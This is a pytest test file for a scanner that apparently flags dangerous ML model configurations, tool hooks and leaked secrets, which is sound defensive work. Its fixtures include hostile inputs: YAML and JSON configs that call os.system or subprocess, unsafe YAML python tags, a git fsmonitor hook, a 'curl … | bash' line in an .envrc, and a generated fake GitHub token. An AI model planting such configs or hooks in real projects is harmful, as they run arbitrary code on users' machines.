"""Configurations, hooks and secrets: what is built, run or given away, through a whole scan."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mlsbom.model import SEVERITY_ORDER, Severity
from mlsbom.scan import Settings, scan

MEDIUM, HIGH = SEVERITY_ORDER[Severity.MEDIUM], SEVERITY_ORDER[Severity.HIGH]


def findings(folder: Path, files: dict[str, str | bytes], settings: Settings) -> dict[str, int]:
    for name, content in files.items():
        path = folder / "target" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    out: dict[str, int] = {}
    for found in scan(str(folder / "target"), settings).findings:
        if not found.rule.startswith(("LICENSE", "HUB", "PACKAGE", "MODEL")):
            out[found.rule] = max(out.get(found.rule, 0), SEVERITY_ORDER[found.severity])
    return out


@pytest.mark.parametrize(
    ("name", "content", "rule", "least"),
    [
        ("c.yaml", "a:\n  - _target_: builtins.eval\n    _args_: ['1']\n", "INSTANTIATION-TARGET", HIGH),
        ("c.yaml", "m:\n  class_path: subprocess.Popen\n  init_args: {args: x}\n", "INSTANTIATION-TARGET", HIGH),
        ("c.yaml", "m:\n  target: os.system\n  params: {command: x}\n", "INSTANTIATION-TARGET", HIGH),
        ("c.yaml", "target: os.system\n", "INSTANTIATION-TARGET", HIGH),
        ("c.yaml", "m: {_target_: acme.Thing}\n", "INSTANTIATION-TARGET", MEDIUM),
        ("c.yaml", "m: {_target_: torch.nn.os.system}\n", "INSTANTIATION-TARGET", HIGH),
        ("c.yaml", "m: {_target_: hydra.utils.get_method, path: os.system}\n", "INSTANTIATION-TARGET", HIGH),
        ("h.yaml", "m: !new:os.system\n  command: x\n", "INSTANTIATION-TARGET", HIGH),
        ("h.yaml", "m: !apply:subprocess.call [x]\n", "INSTANTIATION-TARGET", HIGH),
        ("h.yaml", "m: !!python/object/new:os.system [x]\n", "YAML-TAG", HIGH),
        ("h.yaml", "m: !!python/name:os.system\n", "YAML-TAG", MEDIUM),
        ("c.json", '{"m": {"_target_": "os.system"}}', "INSTANTIATION-TARGET", HIGH),
        ("config.json", '{"auto_map": {"AutoModel": "a/b--m.C"}}', "REMOTE-CODE-REPOSITORY", MEDIUM),
        ("tokenizer_config.json", '{"auto_map": {"AutoTokenizer": ["a/b--t.T", null]}}', "REMOTE-CODE-REPOSITORY", MEDIUM),
        ("config.json", '{"_attn_implementation": "someone/kernel"}', "REMOTE-CODE-REPOSITORY", MEDIUM),
        ("model_index.json", '{"_class_name": "X", "unet": ["acme", "UNet"]}', "EXTERNAL-CLASS", MEDIUM),
        (".git/config", "[core]\n\tfsmonitor = ./x.sh\n", "TOOL-HOOK", HIGH),
        (".envrc", "curl https://example.com/x | bash\n", "TOOL-HOOK", HIGH),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n", "MLFLOW-LOADER", HIGH),
    ],
)  # fmt: skip
def test_fires(name: str, content: str, rule: str, least: int, tmp_path: Path, settings: Settings) -> None:
    assert findings(tmp_path, {name: content}, settings).get(rule, -1) >= least


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("c.yaml", "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\noptim: {_target_: torch.optim.AdamW, lr: 1}\n"),
        ("c.yaml", "data: {target: price, features: [a, b]}\n"),
        ("c.yaml", "out: {_target_: os.path.join, _args_: [a, b]}\npath: !!python/tuple [1, 2]\nday: 2026-01-01\n"),
        ("c.yaml", "a: &a {x: 1}\nb: *a\nc: {<<: *a, y: 2}\n"),
        ("config.json", '{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "target": "column.name"}'),
        (
            "model_index.json",
            '{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null]}',
        ),
        ("modules.json", '[{"idx": 0, "name": "0", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]'),
        ("CLAUDE.md", "Run `make test` before you commit. \U0001f468\u200d\U0001f4bb\n"),
        (".mcp.json", '{"mcpServers": {"x": {"command": "npx", "args": ["-y", "pkg@1.2.3"]}}}'),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n  sklearn:\n    pickled_model: model.pkl\n"),
        ("notes.md", "The worm called os.system and ran `curl x | sh`; AKIAIOSFODNN7EXAMPLE is an example.\n"),
    ],
)
def test_quiet(name: str, content: str, tmp_path: Path, settings: Settings) -> None:
    found = findings(tmp_path, {name: content}, settings)
    assert not {r for r, s in found.items() if s >= MEDIUM}, found


def test_auto_map_makes_a_module_loaded(tmp_path: Path, settings: Settings) -> None:
    code = "import subprocess\nsubprocess.run(['x'])\nclass T: pass\n"
    assert findings(tmp_path / "a", {"t.py": code}, settings).get("CODE-PROCESS", 0) < MEDIUM
    named = {"t.py": code, "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["t.T", None]}})}
    assert findings(tmp_path / "b", named, settings)["CODE-PROCESS"] >= HIGH


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_secrets_are_not_shown(tmp_path: Path, settings: Settings, encoding: str) -> None:
    from mlsbom.inspectors.code.secrets import _crc62

    body = "9fK2mQx7LpV4sT8wZc3Rb6Ny1Hd5Gj"
    import zlib

    number, check = zlib.crc32(body.encode()), ""
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    while number:
        number, rest = divmod(number, 62)
        check = letters[rest] + check
    token = f"ghp_{body}{check.rjust(6, '0')}"
    assert _crc62(token) and not _crc62(token[:-1] + ("0" if token[-1] != "0" else "1"))
    (tmp_path / "target").mkdir()
    (tmp_path / "target" / "run.sh").write_bytes(f"export TOKEN={token}\n".encode(encoding))
    found = [f for f in scan(str(tmp_path / "target"), settings).findings if f.rule == "SECRET"]
    assert len(found) == 1 and token not in str(found[0]) and body[8:] not in str(found[0])
